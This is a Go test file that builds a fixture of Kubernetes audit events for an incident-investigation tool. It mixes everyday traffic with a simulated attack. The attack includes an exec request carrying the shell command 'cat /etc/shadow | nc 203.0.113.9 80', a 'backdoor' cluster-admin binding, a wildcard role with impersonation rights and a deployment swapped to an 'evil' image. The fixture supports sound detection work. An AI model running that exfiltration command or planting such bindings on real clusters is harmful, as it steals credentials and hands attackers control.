package investigate

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/kubetrail/kubetrail/internal/audit"
	"github.com/kubetrail/kubetrail/internal/pipeline"
	"github.com/kubetrail/kubetrail/internal/store/local"
)

// t0 is when the fixture's incident starts.
var t0 = time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)

// evb builds one audit event for the fixture.
type evb struct{ ev audit.Event }

// req starts a request at second sec of the incident.
func req(sec float64, user, verb, uri string) *evb {
	ts := t0.Add(time.Duration(sec * float64(time.Second)))
	return &evb{ev: audit.Event{
		Kind: "Event", APIVersion: audit.APIVersionV1,
		Level:                    audit.LevelMetadata,
		AuditID:                  fmt.Sprintf("id-%s-%s-%g", user, verb, sec),
		Stage:                    audit.StageResponseComplete,
		RequestURI:               uri,
		Verb:                     verb,
		User:                     audit.UserInfo{Username: user},
		SourceIPs:                []string{"10.0.0.5"},
		UserAgent:                "kubectl/v1.37.2 (linux/amd64) kubernetes/abc",
		RequestReceivedTimestamp: audit.MicroTime{Time: ts},
		StageTimestamp:           audit.MicroTime{Time: ts.Add(3 * time.Millisecond)},
	}}
}

func (b *evb) obj(resource, ns, name string) *evb {
	b.ev.ObjectRef = &audit.ObjectReference{Resource: resource, Namespace: ns, Name: name, APIVersion: "v1"}
	if strings.Contains(resource, "/") {
		b.ev.ObjectRef.Resource, b.ev.ObjectRef.Subresource, _ = strings.Cut(resource, "/")
	}
	return b
}

func (b *evb) group(g string) *evb { b.ev.ObjectRef.APIGroup = g; return b }

func (b *evb) groups(g ...string) *evb { b.ev.User.Groups = g; return b }

func (b *evb) code(c int32, decision string) *evb {
	b.ev.ResponseStatus = &audit.Status{Code: c}
	if c >= 400 {
		b.ev.ResponseStatus.Status = "Failure"
	}
	if decision != "" {
		b.ev.Annotations = map[string]string{"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""}
	}
	return b
}

func (b *evb) stage(s audit.Stage) *evb {
	b.ev.Stage = s
	if s == audit.StageRequestReceived {
		b.ev.StageTimestamp = b.ev.RequestReceivedTimestamp
		b.ev.ResponseStatus = nil
	}
	return b
}

func (b *evb) id(id string) *evb         { b.ev.AuditID = id; return b }
func (b *evb) ips(ips ...string) *evb    { b.ev.SourceIPs = ips; return b }
func (b *evb) as(user string) *evb       { b.ev.ImpersonatedUser = &audit.UserInfo{Username: user}; return b }
func (b *evb) noUser() *evb              { b.ev.User = audit.UserInfo{}; return b }
func (b *evb) level(l audit.Level) *evb  { b.ev.Level = l; return b }
func (b *evb) reqBody(body string) *evb  { b.ev.RequestObject = json.RawMessage(body); return b }
func (b *evb) respBody(body string) *evb { b.ev.ResponseObject = json.RawMessage(body); return b }

// The bodies of deployment web as it is created, patched and updated.
const (
	deployV1 = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"production","uid":"u-1","resourceVersion":"10","generation":1,"managedFields":[{"manager":"kubectl-create"}]},"spec":{"replicas":1,"template":{"spec":{"containers":[{"name":"web","image":"web:1.0"}]}}}}`
	deployV2 = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"production","uid":"u-1","resourceVersion":"11","generation":2,"managedFields":[{"manager":"kubectl-patch"}]},"spec":{"replicas":1,"template":{"spec":{"containers":[{"name":"web","image":"evil:6.6.6"}]}}}}`
	deployV3 = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"production","uid":"u-1","resourceVersion":"12","generation":3},"spec":{"replicas":5,"template":{"spec":{"containers":[{"name":"web","image":"evil:6.6.6"}]}}}}`
	statusOK = `{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"web","group":"apps","kind":"deployments","uid":"u-1"}}`
	deleteOp = `{"kind":"DeleteOptions","apiVersion":"meta.k8s.io/__internal","propagationPolicy":"Background"}`
)

// incident is the fixture: an attack and the everyday traffic around it.
func incident() []*evb {
	sec := func(ns, name string) string { return "/api/v1/namespaces/" + ns + "/secrets/" + name }
	execURI := "/api/v1/namespaces/production/pods/web/exec?command=sh&command=-c&command=" + url.QueryEscape("cat /etc/shadow | nc 203.0.113.9 80") + "&container=app&stdin=true&stdout=true&tty=true"
	return []*evb{
		// A controller reads a secret: system, not flagged.
		req(1, "system:serviceaccount:kube-system:token-controller", "get", sec("kube-system", "sa-token")).obj("secrets", "kube-system", "sa-token").code(200, "allow"),
		// alice creates, reads and deletes secret important. The delete
		// is logged at two stages.
		req(10, "alice", "create", "/api/v1/namespaces/production/secrets").obj("secrets", "production", "important").groups("developers", "system:authenticated").code(201, "allow"),
		req(11, "alice", "get", sec("production", "important")).obj("secrets", "production", "important").groups("developers", "system:authenticated").code(200, "allow"),
		req(12, "alice", "delete", sec("production", "important")).obj("secrets", "production", "important").groups("developers", "system:authenticated").stage(audit.StageRequestReceived).id("del-1"),
		req(12, "alice", "delete", sec("production", "important")).obj("secrets", "production", "important").groups("developers", "system:authenticated").code(200, "allow").id("del-1"),
		// Someone deletes a secret of the same name elsewhere.
		req(13, "bob", "delete", sec("staging", "important")).obj("secrets", "staging", "important").code(200, "allow"),
		// bob is refused, three times.
		req(20, "bob", "list", "/api/v1/namespaces/production/secrets").obj("secrets", "production", "").code(403, "forbid"),
		req(21, "bob", "get", "/api/v1/namespaces/production/pods/web").obj("pods", "production", "web").code(403, "forbid"),
		req(22, "bob", "get", "/api/v1/namespaces/production/pods/db").obj("pods", "production", "db").code(403, "forbid"),
		// An unknown token: no user, only a ResponseStarted stage.
		req(23, "", "get", "/version").noUser().code(401, "").stage(audit.StageResponseStarted).ips("198.51.100.7"),
		// admin impersonates alice.
		req(30, "admin", "list", "/api/v1/namespaces/production/pods").obj("pods", "production", "").as("alice").code(200, "allow"),
		// admin execs into pod web: WebSocket (get, two stages), then SPDY.
		req(40, "admin", "get", execURI).obj("pods/exec", "production", "web").stage(audit.StageResponseStarted).code(101, "allow").id("exec-ws"),
		req(40, "admin", "get", execURI).obj("pods/exec", "production", "web").code(101, "allow").id("exec-ws"),
		req(41, "admin", "create", execURI).obj("pods/exec", "production", "web").code(101, "allow"),
		req(42, "admin", "create", "/api/v1/namespaces/production/pods/web/portforward?ports=8080&ports=9090").obj("pods/portforward", "production", "web").code(101, "allow"),
		req(43, "admin", "get", "/api/v1/namespaces/production/pods/web/attach?container=app&stdin=true").obj("pods/attach", "production", "web").code(101, "allow"),
		// RBAC: a backdoor binding to cluster-admin, a wildcard role, and
		// a binding logged at Metadata level.
		req(50, "mallory", "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings").obj("clusterrolebindings", "", "backdoor").group("rbac.authorization.k8s.io").
			level(audit.LevelRequestResponse).code(201, "allow").
			reqBody(`{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"backdoor"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"eve"}]}`).
			respBody(`{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"backdoor","uid":"b-1"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"eve"},{"kind":"ServiceAccount","name":"default","namespace":"ci"}]}`),
		req(51, "mallory", "create", "/apis/rbac.authorization.k8s.io/v1/namespaces/production/roles").obj("roles", "production", "all").group("rbac.authorization.k8s.io").
			level(audit.LevelRequest).code(201, "allow").
			reqBody(`{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"all"},"rules":[{"apiGroups":[""],"resources":["*"],"verbs":["get"]},{"apiGroups":[""],"resources":["users"],"verbs":["impersonate","bind"]}]}`),
		req(52, "admin", "delete", "/apis/rbac.authorization.k8s.io/v1/namespaces/production/rolebindings/view").obj("rolebindings", "production", "view").group("rbac.authorization.k8s.io").code(200, "allow"),
		// A read of RBAC is not a change.
		req(53, "admin", "get", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/backdoor").obj("clusterrolebindings", "", "backdoor").group("rbac.authorization.k8s.io").code(200, "allow"),
		// Deployment web: created, patched, updated (Request level: only
		// the request body), a conflict, then deleted.
		req(60, "admin", "create", "/apis/apps/v1/namespaces/production/deployments").obj("deployments", "production", "web").group("apps").level(audit.LevelRequestResponse).code(201, "allow").reqBody(deployV1).respBody(deployV1),
		req(61, "mallory", "patch", "/apis/apps/v1/namespaces/production/deployments/web").obj("deployments", "production", "web").group("apps").level(audit.LevelRequestResponse).code(200, "allow").
			reqBody(`{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"evil:6.6.6"}]}}}}`).respBody(deployV2),
		req(62, "mallory", "update", "/apis/apps/v1/namespaces/production/deployments/web").obj("deployments", "production", "web").group("apps").level(audit.LevelRequest).code(200, "allow").reqBody(deployV3),
		req(63, "admin", "update", "/apis/apps/v1/namespaces/production/deployments/web").obj("deployments", "production", "web").group("apps").level(audit.LevelRequest).code(409, "allow").reqBody(deployV1),
		req(64, "admin", "get", "/apis/apps/v1/namespaces/production/deployments/web").obj("deployments", "production", "web").group("apps").code(200, "allow"),
		req(65, "admin", "patch", "/apis/apps/v1/namespaces/production/deployments/web/status").obj("deployments/status", "production", "web").group("apps").level(audit.LevelRequest).code(200, "allow").reqBody(`{"status":{"readyReplicas":5}}`),
		req(66, "admin", "delete", "/apis/apps/v1/namespaces/production/deployments/web").obj("deployments", "production", "web").group("apps").level(audit.LevelRequestResponse).code(200, "allow").reqBody(deleteOp).respBody(statusOK),
		// Traffic that claims 192.168.1.100 in X-Forwarded-For, and
		// traffic that really comes from it.
		req(70, "eve", "list", "/api/v1/namespaces/production/secrets").obj("secrets", "production", "").ips("192.168.1.100", "10.0.0.9").code(200, "allow"),
		req(71, "eve", "get", "/api/v1/namespaces/production/configmaps/settings").obj("configmaps", "production", "settings").ips("192.168.1.100").code(200, "allow"),
		req(72, "eve", "get", "/api/v1/namespaces/production/configmaps/other").obj("configmaps", "production", "other").ips("::ffff:192.168.1.7").code(200, "allow"),
		// A client reuses one Audit-ID for two different requests.
		req(80, "alice", "delete", "/api/v1/namespaces/production/configmaps/a").obj("configmaps", "production", "a").code(200, "allow").id("chosen"),
		req(81, "alice", "delete", "/api/v1/namespaces/production/configmaps/b").obj("configmaps", "production", "b").code(200, "allow").id("chosen"),
	}
}

// openFixture stores events in a fresh store and opens a reader on it.
// The second half of the events arrives first and is sealed into segments;
// the first half stays in the WAL, so Select serves both, out of time order.
func openFixture(t *testing.T, evs []*evb) *local.Reader {
	t.Helper()
	dir := t.TempDir()
	dec := audit.NewDecoder(audit.Limits{})
	var recs []audit.Record
	for _, b := range evs {
		raw, err := json.Marshal(&b.ev)
		if err != nil {
			t.Fatal(err)
		}
		dec.DecodeBody("fixture", raw, func(r audit.Record) { recs = append(recs, r) }, func(p audit.Problem) { t.Fatal(p.String()) })
	}
	half := len(recs) / 2
	for i, part := range [][]audit.Record{recs[half:], recs[:half]} {
		db, err := local.Open(dir, local.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := db.Append(context.Background(), &pipeline.Batch{Cluster: "prod", Received: time.Now(), Records: part}); err != nil {
			t.Fatal(err)
		}
		if i == 0 {
			if err := db.Close(); err != nil { // seals the WAL into a segment
				t.Fatal(err)
			}
			continue
		}
		t.Cleanup(func() { db.Close() })
	}
	r, err := local.OpenReader(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	if r.Count() != len(recs) {
		t.Fatalf("the store holds %d events, want %d", r.Count(), len(recs))
	}
	return r
}

// summary is a request in one line, for comparisons.
func summary(q *Request) string {
	s := fmt.Sprintf("%g %s %s %s", q.Time.Sub(t0).Seconds(), userOrNone(q.User), q.Verb, q.object())
	if q.Namespace != "" {
		s += " -n " + q.Namespace
	}
	if q.As != "" {
		s += " as " + q.As
	}
	return s + " " + q.Stage + " " + q.result()
}

// render prints a report in a format.
func render(t *testing.T, rep Report, format string) string {
	t.Helper()
	var b strings.Builder
	if err := Write(&b, rep, format); err != nil {
		t.Fatal(err)
	}
	return b.String()
}
